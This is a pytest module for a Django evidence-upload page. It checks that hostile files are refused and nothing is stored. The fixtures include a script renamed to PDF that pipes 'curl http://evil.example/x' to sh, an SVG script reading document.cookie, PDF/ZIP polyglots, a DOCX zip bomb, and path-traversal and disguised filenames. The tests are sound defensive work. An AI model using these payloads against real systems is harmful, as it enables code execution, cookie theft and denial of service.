"""Hostile files posted to the evidence upload page: each refused with a clear
message, nothing stored (no row, no file on disk)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import FileUploadHandler
from django.test import Client, RequestFactory
from django.urls import reverse
from pytest_django import Settings

from assessments.models import Application, Evidence, Indicator
from assessments.services import applications
from clusters.models import Membership
from common.enums import Level
from common.files import MAX_UPLOAD_BYTES, UploadRejected, check_upload
from common.upload_handlers import OversizeUpload, SizeLimitedUploadHandler
from tests.assessments.conftest import ELIGIBLE, make_version
from tests.factories import MembershipFactory, OrganisationFactory
from tests.files import JPEG, PDF, PNG

if TYPE_CHECKING:
    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse

HTMX = {"HTTP_HX_REQUEST": "true"}
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"


def _zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx_bomb() -> bytes:
    """A DOCX on the outside, 256 MB of zeros inside (about 250 kB compressed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open("word/media/zeros.bin", "w", force_zip64=True) as entry:
            block = b"\0" * (1024 * 1024)
            for _ in range(256):
                entry.write(block)
    return buffer.getvalue()


HOSTILE = [
    pytest.param(
        "invoice.pdf",
        lambda: b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
        "invoice.pdf is named as PDF but its content is something else",
        id="script-renamed-pdf",
    ),
    pytest.param(
        "report.pdf",
        lambda: PDF + _zip({"payload.js": b"alert(1)"}),
        "report.pdf is a PDF with an archive hidden inside",
        id="pdf-zip-polyglot",
    ),
    pytest.param(
        "report.docx",
        lambda: _zip(
            {"%PDF-1.4 x": PDF, "[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"},
            compression=zipfile.ZIP_STORED,
        ),
        "report.docx is a DOCX that also reads as a PDF",
        id="zip-pdf-polyglot",
    ),
    pytest.param(
        "huge.pdf",
        lambda: b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024),
        "The file huge.pdf is 10.0 MB; the limit is 10 MB.",
        id="oversized",
    ),
    pytest.param(
        "logo.svg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>",
        "logo.svg is not an accepted kind of file",
        id="svg-with-script",
    ),
    pytest.param(
        "logo.png",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>",
        "logo.png is named as PNG but its content is something else",
        id="svg-renamed-png",
    ),
    pytest.param(
        "photo.jpg",
        lambda: b"\xff\xd8\xff\xe0" + SVG,
        "photo.jpg is not a readable JPEG file",
        id="jpeg-header-svg-body",
    ),
    pytest.param(
        "photo.png",
        lambda: PNG[:8] + SVG,
        "photo.png is not a readable PNG file",
        id="png-header-svg-body",
    ),
    pytest.param(
        "photo.jpg",
        lambda: JPEG[: len(JPEG) // 2],
        "photo.jpg is not a readable JPEG file",
        id="truncated-jpeg",
    ),
    pytest.param(
        "photo.jpg",
        lambda: PNG[:0] + b"\xff\xd8\xff" + PNG,
        "photo.jpg is not a readable JPEG file",
        id="jpeg-header-png-body",
    ),
    pytest.param(
        "plan.pdf",
        lambda: b"%PDF-1.7\n" + SVG,
        "plan.pdf is not a readable PDF file",
        id="pdf-header-svg-body",
    ),
    pytest.param(
        "minutes.docx",
        _docx_bomb,
        "minutes.docx would unpack to more than 100 MB",
        id="zip-bomb-as-docx",
    ),
]


@pytest.fixture
def media(settings: Settings, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def manager(db: None) -> Membership:
    make_version(Level.BRONZE)
    return MembershipFactory(organisation=OrganisationFactory(**ELIGIBLE))


@pytest.fixture
def application(manager: Membership) -> Application:
    return applications.application_start(organisation=manager.organisation, level=Level.BRONZE, by=manager.user)


def _post(client: Client, application: Application, upload: SimpleUploadedFile, **extra: Any) -> TestResponse:
    indicator = Indicator.objects.get(version=application.version, code="S2.4")
    return client.post(
        reverse("assessments:evidence_upload", args=[application.pk, indicator.pk]), {"file": upload}, **extra
    )


def _stored_files(media: Path) -> list[Path]:
    return [path for path in media.rglob("*") if path.is_file()] if media.exists() else []


@pytest.mark.parametrize(("name", "content", "message"), HOSTILE)
def test_hostile_upload_is_refused_with_a_reason(
    client: Client,
    media: Path,
    manager: Membership,
    application: Application,
    name: str,
    content: Callable[[], bytes],
    message: str,
) -> None:
    client.force_login(manager.user)

    response = _post(client, application, SimpleUploadedFile(name, content()), **HTMX)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert Evidence.objects.count() == 0
    assert _stored_files(media) == []


@pytest.mark.parametrize("name", ["../../../etc/passwd.pdf", "..\\..\\windows\\win.pdf", "../.pdf"])
def test_name_with_path_is_reduced_to_its_last_part(
    client: Client, media: Path, manager: Membership, application: Application, name: str
) -> None:
    client.force_login(manager.user)

    _post(client, application, SimpleUploadedFile(name, PDF))

    evidence = Evidence.objects.get()
    stored = Path(evidence.file.path).resolve()
    assert stored.is_relative_to((media / "private" / "evidence").resolve())
    assert "/" not in evidence.original_name and "\\" not in evidence.original_name
    assert not evidence.original_name.startswith("..")
    assert stored.name == f"{evidence.sha256[:16]}.pdf"


@pytest.mark.parametrize(
    "name", ["report\u202efdp.exe.pdf", "nul\x00byte.pdf", "new\nline.pdf", "..\\evil.pdf", "dir/evil.pdf"]
)
def test_upload_check_refuses_names_that_hide_or_traverse(name: str) -> None:
    """Callers other than the web form (whose parser strips paths itself) get the same protection."""
    with pytest.raises(UploadRejected, match=r"contains characters that are not allowed"):
        check_upload(io.BytesIO(PDF), name, len(PDF))


def test_plain_office_document_is_still_accepted(
    client: Client, media: Path, manager: Membership, application: Application
) -> None:
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>" * 1000})
    client.force_login(manager.user)

    _post(client, application, SimpleUploadedFile("plan.docx", docx))

    assert Evidence.objects.get().content_type.endswith("wordprocessingml.document")


@pytest.mark.parametrize(("name", "content"), [("photo.jpg", JPEG), ("photo.png", PNG), ("plan.pdf", PDF)])
def test_real_images_and_pdfs_are_accepted(
    client: Client, media: Path, manager: Membership, application: Application, name: str, content: bytes
) -> None:
    client.force_login(manager.user)

    _post(client, application, SimpleUploadedFile(name, content))

    assert Evidence.objects.get().original_name == name


class CountingHandler(FileUploadHandler):
    """Stands for the handlers after the limit: counts what reaches them."""

    received = 0

    def receive_data_chunk(self, raw_data: bytes, start: int) -> bytes | None:
        CountingHandler.received += len(raw_data)
        return raw_data

    def file_complete(self, file_size: int) -> None:
        return None


def test_an_oversized_upload_is_not_kept_past_the_limit(rf: RequestFactory) -> None:
    body = b"%PDF-1.7\n" + b"0" * (60 * 1024 * 1024)
    request = rf.post("/upload/", {"file": SimpleUploadedFile("big.pdf", body)})
    CountingHandler.received = 0
    request.upload_handlers = [SizeLimitedUploadHandler(request), CountingHandler(request)]

    upload = request.FILES["file"]

    assert isinstance(upload, OversizeUpload) and upload.size is not None
    assert CountingHandler.received <= MAX_UPLOAD_BYTES
    assert (upload.read(), upload.size > 60 * 1024 * 1024) == (b"", True)
    with pytest.raises(UploadRejected, match=r"big.pdf is 60.0 MB; the limit is 10 MB"):
        check_upload(upload, "big.pdf", upload.size)


def test_oversized_upload_page_says_the_limit(
    client: Client, media: Path, manager: Membership, application: Application
) -> None:
    client.force_login(manager.user)

    response = _post(
        client, application, SimpleUploadedFile("big.pdf", b"%PDF-1.7\n" + b"0" * (12 * 1024 * 1024)), **HTMX
    )

    assert "the limit is 10 MB" in response.content.decode()
    assert (Evidence.objects.count(), _stored_files(media)) == (0, [])
